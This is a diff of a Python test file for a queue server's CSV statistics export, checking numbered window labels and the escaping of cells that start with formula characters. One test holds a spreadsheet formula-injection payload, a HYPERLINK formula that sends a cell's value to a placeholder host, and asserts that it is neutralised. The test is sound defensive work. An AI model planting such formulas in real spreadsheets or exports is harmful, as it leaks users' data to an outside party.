@@ -60,10 +60,56 @@ def test_statistics_as_csv_for_excel(api):
     assert text.startswith("\ufeff")  # Excel needs the BOM for the Chinese headers
     rows = list(csv.reader(io.StringIO(text[1:])))
     assert rows[0][:4] == ["窗口", "取号数", "叫号数", "办结数"]
-    assert rows[1][0] == "税务综合窗口" and rows[-1][0] == "合计"
+    assert rows[1][0] == "1号 税务综合窗口" and rows[-1][0] == "合计"
     assert rows[-1][1] == "2"
     for by in ("service", "clerk", "day", "hour"):
         assert api.get(f"halls/main/stats.csv?by={by}", "supervisor").status_code == 200
+
+
+def test_windows_of_the_same_name_are_told_apart(api):
+    """Ten windows may be called 无差别综合窗口: rows carry the window's number too."""
+    for n in (1, 2):
+        api.issue("tax")
+        api.open(n)
+        api.act(n, "call-next")
+        api.act(n, "complete")
+    rows = api.ok("GET", "halls/main/stats", "manager")["by"]["window"]
+    assert [(r["key"], r["label"]) for r in rows] == [
+        (1, "1号 税务综合窗口"),
+        (2, "2号 税务综合窗口"),
+    ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_never_starts_a_formula(start):
+    from queue_server.api.stats import safe_text
+
+    assert safe_text(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
+    assert safe_text("税务综合窗口") == "税务综合窗口" and safe_text(-1) == -1
+
+
+def test_csv_of_names_a_spreadsheet_would_run(api):
+    """A temporary window named like a formula and a clerk whose name starts with @: the CSV
+    holds them as text that Excel shows and never runs."""
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
+    api.ok(
+        "POST",
+        "halls/main/layout",
+        "manager",
+        json={"ops": [{"op": "add_window", "number": 8, "name": evil, "services": ["tax"]}]},
+    )
+    api.create_user("@risky", "clerk", ["main"])
+    token = api.login("@risky", "main", 8)
+    api.issue("tax")
+    api.ok("POST", "windows/main-8/open", headers={"Authorization": f"Bearer {token}"})
+    api.ok("POST", "windows/main-8/call-next", headers={"Authorization": f"Bearer {token}"})
+    cells = {}
+    for by in ("window", "clerk"):
+        text = api.get(f"halls/main/stats.csv?by={by}", "manager").get_data(as_text=True)
+        rows = list(csv.reader(io.StringIO(text[1:])))
+        cells[by] = rows[1][0]
+        assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@")], rows
+    assert cells == {"window": f"8号 {evil}", "clerk": "'@risky"}
 
 
 @pytest.mark.parametrize(
